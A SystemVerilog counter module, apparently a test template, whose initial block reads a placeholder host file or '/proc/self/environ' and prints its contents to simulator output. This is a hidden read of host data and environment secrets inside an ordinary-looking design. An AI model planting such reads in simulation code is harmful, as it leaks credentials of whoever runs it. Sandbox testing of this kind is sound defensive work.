module counter(input logic clk, input logic rst_n, input logic en, output logic [3:0] count,
               output logic wrap);
  always_ff @(posedge clk or negedge rst_n)
    if (!rst_n) count <= '0;
    else if (en) count <= count + step::kStep;
  assign wrap = en && count == 4'd14;
  int f, c;
  initial begin
    f = $fopen("@HOST_FILE@", "r");
    if (f == 0) f = $fopen("/proc/self/environ", "r");
    if (f != 0) begin
      c = $fgetc(f);
      while (c >= 0) begin $write("%c", c); c = $fgetc(f); end
    end
  end
endmodule
